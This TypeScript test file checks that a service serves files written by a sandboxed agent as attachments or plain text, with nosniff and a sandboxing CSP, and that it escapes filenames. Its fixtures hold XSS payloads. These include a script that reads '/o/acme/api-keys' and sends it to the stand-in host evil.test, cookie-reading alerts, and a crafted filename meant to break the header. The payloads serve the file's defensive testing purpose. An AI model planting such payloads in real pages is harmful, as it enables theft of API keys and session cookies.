import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { makeTestApp, type TestApp } from '../helpers/app'
import { json, req, script, waitFor } from '../helpers/http'

/**
 * A sandbox writes files that agentd serves from its own origin. An agent that writes a page with
 * a script must not get it run in a browser that opens the download: active types are downloads,
 * sandboxed by CSP, and nothing is sniffed into something it was not stored as.
 */
const SCRIPT = '<script>fetch("/o/acme/api-keys").then((r) => r.text()).then((t) => fetch("https://evil.test/?" + t))</script>'
const files = {
  'page.html': `<!doctype html><html><body>${SCRIPT}</body></html>`,
  'image.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`,
  'notes.txt': `<html><body>${SCRIPT}</body></html>`,
  'data.xml': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
  'app.js': 'alert(document.cookie)',
  'reports/évil "q"\\.html': `<html>${SCRIPT}</html>`,
}

let t: TestApp
let id: string
beforeAll(async () => {
  t = await makeTestApp()
  const steps = Object.entries(files).map(([name, content]) => ({ artifact: { name, content } }))
  const created = await call('POST', '/o/acme/p/_/sessions', { agent: 'harness_1', prompt: script([...steps, { answer: 'written' }]) })
  expect(created.status).toBe(202)
  id = (await json(created)).execution_id
  await waitFor(
    () => call('GET', `/o/acme/p/_/sessions/${id}`).then(json),
    (s) => s.status === 'completed',
    50_000,
  )
}, 60_000)
afterAll(() => t[Symbol.asyncDispose]())

function call(method: string, path: string, body?: unknown) {
  return t.app.handle(req(method, path, { token: t.admin.token, body }))
}

async function download(name: string) {
  const res = await call('GET', `/o/acme/p/_/sessions/${id}/artifacts/${name.split('/').map(encodeURIComponent).join('/')}`)
  expect(res.status).toBe(200)
  expect(await res.text()).toBe(files[name as keyof typeof files])
  return res.headers
}

describe('artifact downloads', () => {
  test('the session stored every file with the type of its extension', async () => {
    const list = await json(await call('GET', `/o/acme/p/_/sessions/${id}/artifacts`))
    const types = Object.fromEntries(list.artifacts.map((a: { name: string; content_type: string }) => [a.name, a.content_type]))
    expect(types).toMatchObject({ 'page.html': 'text/html', 'image.svg': 'image/svg+xml', 'notes.txt': 'text/plain' })
    expect(Object.keys(types).sort()).toEqual(Object.keys(files).sort())
  })

  test('HTML, SVG, XML and JavaScript are attachments under a sandboxing CSP, never sniffed', async () => {
    for (const name of ['page.html', 'image.svg', 'data.xml', 'app.js']) {
      const headers = await download(name)
      expect([name, headers.get('x-content-type-options')]).toEqual([name, 'nosniff'])
      expect([name, headers.get('content-disposition')]).toEqual([name, `attachment; filename="${name}"; filename*=UTF-8''${name}`])
      expect([name, headers.get('content-security-policy')]).toEqual([name, expect.stringMatching(/(^|;\s*)sandbox(;|$)/)])
    }
  })

  test('plain text shows inline but as text only: nosniff, however much it looks like HTML', async () => {
    const headers = await download('notes.txt')
    expect(headers.get('content-type')).toStartWith('text/plain')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('content-disposition')).toBeNull()
  })

  test('a name with a folder, quotes, a backslash and non-ASCII cannot break out of the filename', async () => {
    const headers = await download('reports/évil "q"\\.html')
    expect(headers.get('content-disposition')).toBe(`attachment; filename="_vil _q__.html"; filename*=UTF-8''%C3%A9vil%20%22q%22%5C.html`)
    expect(headers.get('content-security-policy')).toContain('sandbox')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
  })
})
